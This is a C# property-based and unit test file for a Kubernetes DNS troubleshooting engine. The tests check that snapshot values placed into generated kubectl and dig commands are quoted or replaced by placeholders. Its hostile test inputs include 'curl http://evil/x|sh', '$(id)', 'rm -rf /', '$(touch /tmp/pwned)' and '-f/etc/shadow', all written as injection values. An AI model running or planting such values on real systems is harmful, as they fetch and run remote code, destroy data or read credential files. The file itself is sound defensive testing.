using System.Reflection;
using DnsExpert.Engine.Commands;
using DnsExpert.Engine.Compilation;
using DnsExpert.Engine.Hypotheses;
using DnsExpert.Engine.RuleFiles;
using DnsExpert.Engine.Sessions;
using DnsExpert.Facts;
using DnsExpert.Testing;
using DnsExpert.Text;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace DnsExpert.Engine.Tests;

/// <summary>Values from a snapshot put into a copyable command stay one shell word each: never code, never a second line.</summary>
public sealed class CommandQuotingTests
{
    private static readonly RuleBase Rules = RuleBaseLoader.Load(RepoPaths.Rules);

    /// <summary>The characters that mean something to a shell, a terminal or a Markdown reader, and some ordinary ones.</summary>
    private static Arbitrary<string> HostileStrings() =>
        Gen.OneOf(
                Gen.Elements("coredns-x $(id) ; curl http://evil/x|sh #\r\n\u001b[31m", "a'b", "'", "", "=ls", "-rf", "~root", "*", "a b",
                    "x\ny", "x\rrm -rf /", "`id`", "${IFS}", "\u202Egnp.exe", "\u007f\u0085\u009b31m", "kube-dns.kube-system.svc.cluster.local"),
                Gen.Elements('\'', '"', '\\', '$', '`', ';', '|', '&', '<', '>', '(', ')', '*', '?', '[', ']', '{', '}', '~', '#', '=', '%',
                        '\n', '\r', '\t', '\u0000', '\u001b', '\u007f', '\u202e', ' ', '!', 'a', 'Z', '0', '-', '.', 'é', '漢')
                    .ArrayOf()
                    .Select(chars => new string(chars)))
            .ToArbitrary();

    [Property(MaxTest = 200)]
    public Property Every_command_of_the_rule_base_keeps_its_words_whatever_the_facts_hold() =>
        Prop.ForAll(HostileStrings(), value =>
        {
            foreach (var (rule, scope, template) in CommandTemplates())
            {
                var facts = scope.Select(t => FactWithEveryString(t, value)).ToArray();
                var pieces = template.Pieces(facts).ToList();
                var marked = string.Concat(pieces.Select((p, i) => p.Literal ?? $"HOLE{i}X"));
                var intended = ShellSyntax.Tokenize(marked)
                    .Select(token => pieces.Select((p, i) => (p, i)).Where(x => x.p.Literal is null)
                        .Aggregate(token, (t, x) => t.Replace($"HOLE{x.i}X", x.p.Value, StringComparison.Ordinal)))
                    .ToList();
                var rendered = template.Render(facts);
                var parsed = ShellSyntax.Tokenize(rendered);
                if (!parsed.SequenceEqual(intended, StringComparer.Ordinal))
                {
                    throw new InvalidOperationException($"{rule}: {rendered}\nparsed:   [{string.Join("] [", parsed)}]\nintended: [{string.Join("] [", intended)}]");
                }
            }

            return true;
        });

    public static TheoryData<int> Corpus => HostileCorpus.Indexes;

    [Theory]
    [MemberData(nameof(Corpus))]
    public void No_word_of_a_rendered_command_starts_with_a_dash_unless_the_template_writes_it(int index)
    {
        var value = HostileCorpus.Values[index];
        foreach (var (rule, scope, template) in CommandTemplates())
        {
            var facts = scope.Select(t => FactWithEveryString(t, value)).ToArray();
            var pieces = template.Pieces(facts).ToList();
            var literalOptions = ShellSyntax.Tokenize(string.Concat(pieces.Select(p => p.Literal ?? " HOLE ")))
                .Where(w => w.StartsWith('-')).ToHashSet(StringComparer.Ordinal);
            var rendered = template.Render(facts);

            var injected = ShellSyntax.Tokenize(rendered).Where(w => w.StartsWith('-') && !literalOptions.Contains(w)).ToList();
            Assert.True(injected.Count == 0, $"{rule}: {rendered}\nwords from a value that start with '-': [{string.Join("] [", injected)}]");
            Assert.All(pieces.Where(p => p.Value is not null), p => Assert.False(p.Value![0] is '-' or '+' or '@', $"{rule}: value {p.Value}"));
        }
    }

    [Fact]
    public void An_option_as_the_failing_name_of_an_error_message_is_a_placeholder_with_a_note()
    {
        var symptom = new ReportedSymptom { Source = "request.symptom", Class = SymptomClasses.ServerUnreachable, Frequency = SymptomFrequencies.Always };
        var known = KnownValues.From([symptom], "default", "web-1", "-f/etc/shadow", "203.0.113.66:53");

        var check = HypothesisBuilder.Build(Rules, [symptom], [], known).Single(h => h.RuleId == "app-to-kube-dns-unreachable").Checks
            .Single(c => c.Command.Contains("dig @203.0.113.66", StringComparison.Ordinal));

        Assert.Equal("kubectl exec -n default web-1 -- dig @203.0.113.66 <name> +tries=1", check.Command);
        Assert.Contains("<name> is left to fill in: the value found there is not a DNS name", check.Why, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("-f/etc/shadow", CommandValueKind.DnsName, false)]
    [InlineData("-x.example.com", CommandValueKind.DnsName, false)]
    [InlineData("a.-x.example.com", CommandValueKind.DnsName, false)]
    [InlineData("+tcp", CommandValueKind.NameOrAddress, false)]
    [InlineData("@10.0.0.1", CommandValueKind.NameOrAddress, false)]
    [InlineData("_sip._tcp.example.com.", CommandValueKind.DnsName, true)]
    [InlineData("10.96.0.10", CommandValueKind.IpAddress, true)]
    [InlineData("10.96.0.10:53", CommandValueKind.IpAddress, false)]
    [InlineData("10.96.0.10:53", CommandValueKind.NameOrAddress, true)]
    [InlineData("[fd00::a]:53", CommandValueKind.NameOrAddress, true)]
    [InlineData("fd00::a", CommandValueKind.IpAddress, true)]
    [InlineData("1", CommandValueKind.IpAddress, false)]
    [InlineData("Shop", CommandValueKind.Namespace, false)]
    [InlineData("coredns-7d4b9c-x2k4q", CommandValueKind.ObjectName, true)]
    [InlineData("-coredns", CommandValueKind.ObjectName, false)]
    [InlineData("configmap/kube-proxy-worker", CommandValueKind.ObjectReference, true)]
    [InlineData("configmap/-f", CommandValueKind.ObjectReference, false)]
    [InlineData("-f/kube-proxy", CommandValueKind.ObjectReference, false)]
    [InlineData("k8s-app=kube-dns", CommandValueKind.LabelSelector, true)]
    [InlineData("dns.operator.openshift.io/daemonset-dns=default", CommandValueKind.LabelSelector, true)]
    [InlineData("k8s-app=kube-dns,app.kubernetes.io/name=rke2-coredns", CommandValueKind.LabelSelector, true)]
    [InlineData("k8s-app", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app=", CommandValueKind.LabelSelector, false)]
    [InlineData("--all-namespaces=x", CommandValueKind.LabelSelector, false)]
    [InlineData("app=x;id", CommandValueKind.LabelSelector, false)]
    [InlineData("app=x y", CommandValueKind.LabelSelector, false)]
    [InlineData("app!=x", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app in (kube-dns,coredns)", CommandValueKind.LabelSelector, true)]
    [InlineData("k8s-app in (kube-dns,coredns),tier=dns", CommandValueKind.LabelSelector, true)]
    [InlineData("k8s-app in (kube-dns)", CommandValueKind.LabelSelector, true)]
    [InlineData("k8s-app in ()", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app in (kube-dns,)", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app in (kube-dns, coredns)", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app in (a,$(reboot))", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app in (a) x", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app in (a,b)) ; id (", CommandValueKind.LabelSelector, false)]
    [InlineData("-l in (a)", CommandValueKind.LabelSelector, false)]
    [InlineData("k8s-app notin (a)", CommandValueKind.LabelSelector, false)]
    public void A_command_value_is_checked_by_its_kind(string value, CommandValueKind kind, bool fits) =>
        Assert.Equal(fits, CommandValue.Fits(value, kind));

    [Fact]
    public void A_poisoned_pod_name_is_a_placeholder_in_the_command_and_plain_text_elsewhere()
    {
        var pod = new CoreDnsPod
        {
            Source = "Pod kube-system/x",
            Namespace = "kube-system",
            Name = "coredns-x $(id) ; curl http://evil/x|sh #\r\n\u001b[31m'",
            Phase = "Pending",
        };

        var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");

        Assert.Equal("kubectl -n kube-system describe pod <pod-name> && kubectl -n kube-system logs <pod-name> --previous --all-containers --tail=500 --timestamps",
            finding.Remediation[0].Command);
        Assert.EndsWith("(note: <pod-name> is left to fill in: the value found there is not a DNS name or an IP address)", finding.Remediation[0].Summary, StringComparison.Ordinal);
        Assert.Contains("CoreDNS pod coredns-x $(id) ; curl http://evil/x|sh #  [31m' on node", finding.Cause, StringComparison.Ordinal);
        Assert.DoesNotContain(finding.Evidence.SelectMany(e => new[] { e.Source, e.Detail }).Append(finding.Cause), t => t.Any(char.IsControl));
    }

    [Fact]
    public void Plain_dns_names_in_a_command_need_no_quotes()
    {
        var pod = new CoreDnsPod { Source = "Pod kube-system/coredns-7d4b9c-x2k4q", Namespace = "kube-system", Name = "coredns-7d4b9c-x2k4q", Phase = "Pending" };

        var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");

        Assert.Equal("kubectl -n kube-system describe pod coredns-7d4b9c-x2k4q && kubectl -n kube-system logs coredns-7d4b9c-x2k4q --previous --all-containers --tail=500 --timestamps",
            finding.Remediation[0].Command);
    }

    [Fact]
    public void A_check_writes_a_hostile_or_an_unknown_known_value_as_a_placeholder()
    {
        var symptom = new ReportedSymptom { Source = "request.symptom", Class = SymptomClasses.ServerUnreachable, Frequency = SymptomFrequencies.Always };
        var known = new KnownValues { Namespace = "shop", Pod = "web-0", Name = "x$(touch /tmp/pwned)'y" };

        var hypotheses = HypothesisBuilder.Build(Rules, [symptom], [], known);

        var commands = hypotheses.Single(h => h.RuleId == "app-to-kube-dns-unreachable").Checks.Select(c => c.Command).ToList();
        Assert.Contains("kubectl exec -n shop web-0 -- dig @<kube-dns-ip> <name> +tries=1", commands);
    }

    [Theory]
    [InlineData("web-0", "web-0")]
    [InlineData("10.0.0.10:53", "10.0.0.10:53")]
    [InlineData("", "''")]
    [InlineData("a b", "'a b'")]
    [InlineData("it's", @"'it'\''s'")]
    [InlineData("=ls", "'=ls'")]
    [InlineData("$(id)\n", "'$(id) '")]
    public void Shell_words_are_quoted_only_when_needed(string value, string word) => Assert.Equal(word, ShellWords.Quote(value));

    /// <summary>
    /// Every command template of the repository's rules, with the fact types of the patterns it may name, and
    /// <see cref="KnownValues"/> (a remediation names <c>known.*</c> too: the values the snapshot shows).
    /// </summary>
    private static IEnumerable<(string Rule, Type[] Scope, CompiledTemplate Template)> CommandTemplates() =>
        (from rule in Rules.Rules
        from @case in rule.Cases
        let scope = rule.Document.Cases[@case.Index].When.Where(p => p.Mode == PatternMode.Match)
            .Select(p => FactTypes.TryGet(p.FactType, out var t) ? t : throw new InvalidOperationException(p.FactType)).ToArray()
        from remediation in @case.Remediation
        where remediation.Command is not null
        select (rule.Id, scope.Append(typeof(KnownValues)).ToArray(), remediation.Command!))
        .Concat(
            from rule in Rules.Rules
            from check in rule.Checks
            select (rule.Id + " collect", new[] { typeof(KnownValues) }, check.Command));

    /// <summary>A fact of <paramref name="type"/> whose every string (and string list) property holds <paramref name="value"/>.</summary>
    private static object FactWithEveryString(Type type, string value)
    {
        var fact = type.GetConstructor(Type.EmptyTypes) is null
            ? System.Runtime.CompilerServices.RuntimeHelpers.GetUninitializedObject(type)
            : Activator.CreateInstance(type)!;
        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.CanWrite))
        {
            if (property.PropertyType == typeof(string) || property.PropertyType == typeof(object))
            {
                property.SetValue(fact, value);
            }
            else if (property.PropertyType.IsAssignableFrom(typeof(string[])))
            {
                property.SetValue(fact, new[] { value, value });
            }
        }

        return fact;
    }
}
